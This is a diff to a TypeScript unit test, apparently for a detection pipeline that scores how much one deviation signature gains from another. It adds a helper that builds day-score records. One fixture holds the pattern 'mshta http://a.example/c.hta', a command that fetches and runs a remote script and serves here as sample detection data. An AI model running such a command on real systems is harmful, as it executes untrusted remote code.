@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest'
+import { subjectOf } from '@/lib/pipeline/baseline/signature'
 import { EPISODE, gained } from './episode'
 import { fact, hostDay } from './example-host-day'
 import { exampleSignature } from './example-signature'
@@ -20,11 +21,13 @@ const library = exampleSignature({
 })
 const deployed = exampleSignature({ ...page, pattern: 'mshta http://a.example/c.hta', features: MACHINE })
 
+function dayScore(signature: typeof page, scoreMillibits: number, firstAtUs: number) {
+  return { signature, subject: subjectOf(signature).key, score: { scoreMillibits }, firstAtUs }
+}
+
 function gain(signature: typeof page, other: typeof page, apartUs = 0, own = 5000, others = 8000) {
-  return gained([
-    { signature, scoreMillibits: own, firstAtUs: apartUs },
-    { signature: other, scoreMillibits: others, firstAtUs: 0 },
-  ]).get(signature.id)
+  const one = dayScore(signature, own, apartUs)
+  return gained([one, dayScore(other, others, 0)]).get(one)
 }
 
 describe('what a deviation gains by another', () => {
